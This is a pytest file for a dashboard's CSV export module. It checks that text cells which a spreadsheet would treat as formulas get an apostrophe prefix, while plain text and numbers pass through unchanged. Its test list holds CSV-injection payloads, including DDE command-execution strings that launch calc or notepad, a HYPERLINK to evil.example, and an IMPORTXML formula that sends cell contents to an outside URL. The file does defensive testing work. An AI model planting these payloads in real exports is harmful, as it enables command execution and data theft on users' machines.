"""One rule keeps every CSV the product writes from running as a spreadsheet formula."""

from __future__ import annotations

import pandas as pd
import pytest

from dashboard.components.csv_export import is_formula, neutralise, neutralise_frame

RISKY = [
    "=1+1",
    '=HYPERLINK("http://evil.example","click")',
    "+1",
    "-1+2",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "   =cmd|' /C calc'!A0",
    "\u00a0=1",
    "\u3000=1",
    "\u3000\u3000+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "｜cmd",
    "|cmd",
    " |cmd",
    '""=1',
    '"=1',
    '" =1',
    '""+1',
    '"@x',
    "%0A=1",
    "%0a=1",
    "%0D=1",
    "%0A%0A=1",
    "%0A =1",
    " %0A=1",
    "=cmd|'/C notepad'!A1",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
    "\t\t=1",
    " \t=1",
    "-",
    "+",
    "=",
]
SAFE = [
    "Alice",
    "C0000042",
    "user_001",
    "1+1",
    "a=b",
    "O'Brien",
    "'=1",  # already quoted: a spreadsheet shows it as text
    "100%",
    "%0Aabc",
    "",
    "José",
    "Premium",
    "日本",
]


@pytest.mark.parametrize("payload", RISKY)
def test_risky_text_is_prefixed(payload: str) -> None:
    assert is_formula(payload)
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("text", SAFE)
def test_plain_text_is_left_alone(text: str) -> None:
    assert not is_formula(text)
    assert neutralise(text) == text


def test_numbers_stay_numbers() -> None:
    assert neutralise(-5) == -5 and neutralise(-1.5) == -1.5


def test_frames_use_the_same_rule_in_one_step() -> None:
    assert len(RISKY) >= 40
    frame = pd.DataFrame(
        {
            "name": RISKY + SAFE,
            "mixed": [*RISKY, *SAFE[:-1], 7],  # a column with a number in it goes cell by cell
            "hours": [1.5] * (len(RISKY) + len(SAFE)),
        }
    )
    safe = neutralise_frame(frame)
    expected = ["'" + v for v in RISKY] + SAFE
    assert safe["name"].tolist() == expected
    assert safe["mixed"].tolist() == [*expected[:-1], 7]
    assert safe["hours"].tolist() == frame["hours"].tolist()
